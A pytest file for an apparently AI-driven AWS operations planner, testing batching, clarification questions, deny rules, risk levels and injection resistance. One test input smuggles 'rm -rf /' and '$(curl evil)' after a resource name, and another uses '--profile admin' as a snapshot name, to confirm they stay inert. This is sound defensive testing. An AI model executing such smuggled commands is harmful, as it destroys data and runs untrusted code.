"""Planner behaviour beyond the evaluation set: multi-target steps, ambiguity, values, deny rules,
and prompts that try to smuggle in targets or flags."""

from __future__ import annotations

import copy

import pytest

from agent.protocol import PlanRequest


def ec2(name: str, instance_id: str, account="111111111111", region="us-west-2", state="running", env="production"):
    return {"resource_type": "ec2_instance", "resource_id": instance_id, "name": name, "account_id": account,
            "region": region, "current_state": state, "tags": {"Name": name, "env": env}}


def plan(planner, prompt, resources, **context):
    return planner.plan(PlanRequest(prompt=prompt, identified_resources=resources, user_context=context))


def test_two_instances_in_one_region_make_one_batched_call(planner):
    p = plan(planner, "reboot web-server-1 and web-server-2", [ec2("web-server-1", "i-1"), ec2("web-server-2", "i-2")])
    assert [s.operation for s in p.script.steps] == ["RebootInstances"]
    assert p.script.steps[0].parameters == {"InstanceIds": ["i-1", "i-2"]}


def test_targets_in_two_regions_make_one_call_per_region(planner):
    p = plan(planner, "reboot web-server-1 and web-server-9",
             [ec2("web-server-1", "i-1"), ec2("web-server-9", "i-9", region="eu-west-1")])
    assert sorted(s.region for s in p.script.steps) == ["eu-west-1", "us-west-2"]
    assert all(s.command.count("--region") == 1 for s in p.script.steps)


def test_rds_needs_one_call_per_instance(planner, seed_resource):
    other = {**copy.deepcopy(seed_resource), "resource_id": "pg-instance-main2", "name": "pg-instance-main2",
             "arn": "arn:aws:rds:us-west-2:111111111111:db:pg-instance-main2"}
    p = plan(planner, "stop pg-instance-main1 and pg-instance-main2", [seed_resource, other])
    assert [s.parameters["DBInstanceIdentifier"] for s in p.script.steps] == ["pg-instance-main1", "pg-instance-main2"]


def test_same_name_in_two_accounts_is_a_question_and_a_hint_settles_it(planner):
    resources = [ec2("web-server-1", "i-1"), ec2("web-server-1", "i-7", account="222222222222", env="staging")]
    accounts = {"aws_accounts": [{"account_id": "111111111111", "name": "production"},
                                 {"account_id": "222222222222", "name": "staging"}]}
    asked = plan(planner, "stop web-server-1", resources, **accounts)
    assert asked.clarification and len(asked.clarification.candidates) == 2
    assert asked.script.steps == [] and asked.approval_required is False
    settled = plan(planner, "stop web-server-1 in staging", resources, **accounts)
    assert settled.clarification is None
    assert settled.script.steps[0].parameters == {"InstanceIds": ["i-7"]}


def test_nothing_identified_is_a_question_never_an_invented_identifier(planner):
    p = plan(planner, "stop pg-instance-main7", [])
    assert p.clarification is not None and p.script.steps == []
    assert "pg-instance-main7" not in p.model_dump_json(include={"script"})


def test_not_an_aws_request_is_a_question(planner, seed_resource):
    p = plan(planner, "order me a pizza with extra cheese", [seed_resource])
    assert p.clarification is not None and p.script.steps == []


def test_values_from_the_prompt_are_validated(planner):
    asg = {"resource_type": "autoscaling_group", "resource_id": "web-asg", "account_id": "111111111111",
           "region": "us-east-1", "tags": {"env": "dev"}}
    p = plan(planner, "scale web-asg to 3", [asg])
    assert p.script.steps[0].parameters["DesiredCapacity"] == 3
    missing = plan(planner, "scale web-asg", [asg])
    assert missing.clarification is not None and missing.script.steps == []
    too_many = plan(planner, "scale web-asg to 99999999", [asg])
    assert too_many.clarification is not None and "at most" in too_many.clarification.question


def test_a_snapshot_name_that_breaks_the_pattern_is_asked_again(planner, seed_resource):
    p = plan(planner, "snapshot pg-instance-main1 named '--profile admin'", [seed_resource])
    assert p.clarification is not None and p.script.steps == []


def test_smuggled_flags_and_shell_stay_inert(planner, seed_resource):
    p = plan(planner, "Stop pg-instance-main1 --profile admin; rm -rf / && $(curl evil)", [seed_resource])
    step = p.script.steps[0]
    assert step.argv == ["aws", "rds", "stop-db-instance", "--db-instance-identifier", "pg-instance-main1",
                         "--region", "us-west-2"]


def test_a_region_in_the_text_never_moves_a_target(planner, seed_resource):
    p = plan(planner, "Stop pg-instance-main1 in eu-central-1", [seed_resource])
    assert p.script.steps == [] and p.clarification is not None


def test_unicode_lookalike_name_is_not_the_resource(planner, seed_resource):
    # Cyrillic 'р' and 'е' in the name: it is not pg-instance-main1, and only one DB was identified,
    # so the planner may target it only as the client's own identification, never by the look-alike.
    p = plan(planner, "Stop рg-instance-main1", [])
    assert p.clarification is not None and p.script.steps == []


def test_read_only_needs_no_approval(planner, seed_resource):
    p = plan(planner, "describe pg-instance-main1", [seed_resource])
    assert p.classification.playbook == "aws_rds_describe_instance"
    assert p.approval_required is False and p.risk_assessment.level == "low"
    assert all(not s.mutating for s in p.script.steps)


def test_deny_rule_beats_approval(planner, seed_resource):
    rule = {"reason": "no deletes in production", "operations": ["Delete*"], "production": True}
    p = plan(planner, "delete pg-instance-main1", [seed_resource], deny_rules=[rule])
    assert p.risk_assessment.level == "critical"
    assert p.risk_assessment.denied and p.risk_assessment.denied_reasons == ["no deletes in production"]
    assert p.script.steps[0].denied_by == ["no deletes in production"]
    assert "DENIED" in p.explain_plan


def test_deny_rule_scoped_to_another_account_does_not_fire(planner, seed_resource):
    rule = {"reason": "staging is frozen", "accounts": ["222222222222"]}
    p = plan(planner, "stop pg-instance-main1", [seed_resource], deny_rules=[rule])
    assert not p.risk_assessment.denied


def test_server_side_deny_rules_apply_too(stack, seed_resource):
    from agent.protocol import DenyRule

    stack.deny_rules.append(DenyRule(reason="change freeze", playbooks=["aws_rds_*"]))
    try:
        p = stack.planner("server").plan(PlanRequest(prompt="reboot pg-instance-main1", identified_resources=[seed_resource]))
        assert p.risk_assessment.denied_reasons == ["change freeze"]
    finally:
        stack.deny_rules.clear()


@pytest.mark.parametrize("count, level", [(1, "medium"), (5, "high")])
def test_scope_raises_risk(planner, count, level):
    resources = [ec2(f"node-{i}", f"i-{i}") for i in range(count)]
    prompt = "reboot " + " and ".join(f"node-{i}" for i in range(count))
    assert plan(planner, prompt, resources).risk_assessment.level == level


def test_stale_state_blocks_with_a_reason(planner):
    p = plan(planner, "start web-server-1", [ec2("web-server-1", "i-1", state="running")])
    assert p.script.steps == [] and any("only a stopped" in w or "running" in w for w in p.warnings)


def test_long_prompt_is_handled(planner, seed_resource):
    p = plan(planner, "Stop pg-instance-main1. " + "Context: " + "blah " * 700, [seed_resource])
    assert p.classification.playbook == "aws_rds_stop_instance"
    assert any("long prompt" in w for w in p.warnings)


def bucket(name: str) -> dict:
    return {"resource_type": "s3_bucket", "resource_id": name, "name": name, "account_id": "111111111111",
            "region": "us-west-2", "tags": {"env": "dev"}}


@pytest.mark.parametrize("prompt", [
    "empty uploads-tmp: delete every object in it but keep the bucket",
    "delete the contents of uploads-tmp, don't delete the bucket itself",
])
def test_a_deletion_the_prompt_says_to_keep_is_a_question_not_a_delete(planner, prompt):
    p = plan(planner, prompt, [bucket("uploads-tmp")])
    assert p.clarification is not None and p.script.steps == []


def test_a_plain_deletion_is_still_planned(planner):
    p = plan(planner, "delete the bucket uploads-tmp", [bucket("uploads-tmp")])
    assert [s.operation for s in p.script.steps] == ["DeleteBucket"] and p.approval_required


def test_a_listing_reads_every_identified_resource_and_a_change_of_several_still_asks(planner):
    """"list the instances in dev" is a describe of all of them (read-only, no approval); "stop the
    instances in dev", with the same resources, is a question: only "all" makes a change act on several."""
    resources = [ec2("bastion", "i-1", account="333333333333", env="dev"),
                 ec2("ci-build-runner", "i-2", account="333333333333", state="stopped", env="dev")]
    listed = plan(planner, "list the instances in dev", resources)
    assert listed.clarification is None and listed.approval_required is False
    assert [(s.operation, s.parameters) for s in listed.script.steps] == [
        ("DescribeInstances", {"InstanceIds": ["i-1", "i-2"]})]
    changed = plan(planner, "stop the instances in dev", resources)
    assert changed.clarification is not None and changed.script.steps == []


def _ecs_service(name: str) -> dict:
    arn = f"arn:aws:ecs:us-west-2:111111111111:service/prod-cluster/{name}"
    return {"resource_type": "ecs_service", "resource_id": arn, "name": name, "arn": arn, "account_id": "111111111111",
            "region": "us-west-2", "current_state": "ACTIVE", "tags": {"env": "production"},
            "relations": {"cluster": ["arn:aws:ecs:us-west-2:111111111111:cluster/prod-cluster"]}}


@pytest.mark.parametrize("prompt", ["restart api-service", "bounce api-service", "reboot api-service"])
def test_a_named_resource_s_type_is_never_overridden_by_the_verb(planner, prompt):
    """'restart api-service' (an ECS service) planned the EC2 reboot playbook on the verb and then asked
    which instance; a playbook that cannot act on the type the prompt names is never chosen."""
    p = plan(planner, prompt, [_ecs_service("api-service"), ec2("web-server-1", "i-1")])
    assert p.classification.playbook in (None, "aws_ecs_force_new_deployment")
    assert all(s.service == "ecs" for s in p.script.steps)


def _queue(name: str, dlq: str | None = None) -> dict:
    url = f"https://sqs.us-west-2.amazonaws.com/111111111111/{name}"
    return {"resource_type": "sqs_queue", "resource_id": url, "name": name,
            "arn": f"arn:aws:sqs:us-west-2:111111111111:{name}", "account_id": "111111111111", "region": "us-west-2",
            "tags": {"env": "production"}, "attributes": {"messages_visible": 3},
            "relations": {"dead_letter_queue": [f"arn:aws:sqs:us-west-2:111111111111:{dlq}"]} if dlq else {}}


@pytest.mark.parametrize("prompt", ["purge the dlq of payments-queue", "purge payments-queue's dead letter queue",
                                    "purge the dead-letter queue of payments-queue"])
def test_a_part_of_a_named_resource_is_what_is_acted_on_never_the_resource(planner, prompt):
    """'purge the dlq of payments-queue' purged payments-queue itself (the production work queue)."""
    resources = [_queue("payments-queue", dlq="payments-queue-dlq"), _queue("payments-queue-dlq")]
    p = plan(planner, prompt, resources)
    assert [s.parameters["QueueUrl"] for s in p.script.steps] == [resources[1]["resource_id"]]
    alone = plan(planner, prompt, resources[:1])  # the dead-letter queue was not identified: ask, never the queue
    assert alone.clarification is not None and not alone.script.steps
    assert "not among the resources identified" in alone.clarification.question


def rds(name: str, **facts) -> dict:
    return {"resource_type": "rds_db_instance", "resource_id": name, "name": name,
            "arn": f"arn:aws:rds:us-west-2:111111111111:db:{name}", "account_id": "111111111111",
            "region": "us-west-2", "current_state": "available", "engine": "mysql", "tags": {"env": "dev"}, **facts}


@pytest.mark.parametrize("prompt, first", [
    # Planned as a snapshot, "and delete it" was dropped without a word. Deleting an RDS instance takes a
    # final snapshot, so the playbook that does both is offered first.
    ("take a final snapshot of billing-mysql and delete it", "aws_rds_delete_instance"),
    ("stop billing-mysql, then delete it", "aws_rds_delete_instance"),
])
def test_a_second_change_is_never_dropped_silently(planner, prompt, first):
    p = plan(planner, prompt, [rds("billing-mysql")])
    assert p.clarification is not None and p.script.steps == [] and not p.approval_required
    assert "more than one change" in p.clarification.question
    assert p.clarification.candidates[0].playbook == first


def test_two_changes_one_playbook_makes_are_planned_as_it(planner):
    p = plan(planner, "please snapshot billing-mysql and then stop it", [rds("billing-mysql")])
    assert p.clarification is None
    assert [s.operation for s in p.script.steps] == ["CreateDBSnapshot", "StopDBInstance"]


def test_two_changes_no_playbook_does_both_are_a_question(planner):
    p = plan(planner, "empty the bucket uploads-tmp and delete it", [bucket("uploads-tmp")])
    assert p.clarification is not None and p.script.steps == []
    assert "would not empty" in p.clarification.question


@pytest.mark.parametrize("prompt, operation", [
    ("uploads-tmp is empty now, delete the bucket", "DeleteBucket"),        # a description, not a request
    ("snapshot billing-mysql, don't delete it", "CreateDBSnapshot"),         # a negated clause
    ("snapshot billing-mysql as before-upgrade", "CreateDBSnapshot"),        # a verb inside a value
    ("delete billing-mysql and take a final snapshot", "DeleteDBInstance"),  # the delete takes one
])
def test_what_is_not_a_second_change(planner, prompt, operation):
    resources = [bucket("uploads-tmp")] if "uploads" in prompt else [rds("billing-mysql")]
    p = plan(planner, prompt, resources)
    assert p.clarification is None and [s.operation for s in p.script.steps] == [operation]


def test_a_boolean_s_words_for_false_set_it(planner):
    """"reboot it first" asks for the reboot CreateImage skips by default (NoReboot true)."""
    rebooted = plan(planner, "create an image of web-server-2; reboot it first so the disks are consistent",
                    [ec2("web-server-2", "i-2")])
    assert rebooted.script.steps[0].parameters["NoReboot"] is False
    assert any("rebooted" in r for r in rebooted.risk_assessment.reasons)
    kept = plan(planner, "create an image of web-server-2 without rebooting", [ec2("web-server-2", "i-2")])
    assert kept.script.steps[0].parameters["NoReboot"] is True


def test_the_volume_attached_to_an_instance_is_what_is_acted_on(planner):
    """"delete the volume attached to build-agent-1" planned DetachVolume (another change than asked): the
    instance's relation names the volume, and "attached" is which volume, not what to do."""
    inst = {**ec2("build-agent-1", "i-0c4e6a8b0d2f13571"), "relations": {"volumes": ["vol-0e2d4f6a8c0b13579"]}}
    vol = {"resource_type": "ec2_volume", "resource_id": "vol-0e2d4f6a8c0b13579", "name": "build-agent-1-cache",
           "account_id": "111111111111", "region": "us-west-2", "current_state": "in-use",
           "relations": {"attached_to": ["i-0c4e6a8b0d2f13571"]}}
    deleted = plan(planner, "delete the volume attached to build-agent-1", [inst, vol])
    assert [(s.operation, s.parameters) for s in deleted.script.steps] == [
        ("DeleteVolume", {"VolumeId": "vol-0e2d4f6a8c0b13579"})]
    detached = plan(planner, "detach the volume attached to build-agent-1", [inst, vol])
    assert [s.operation for s in detached.script.steps] == ["DetachVolume"]
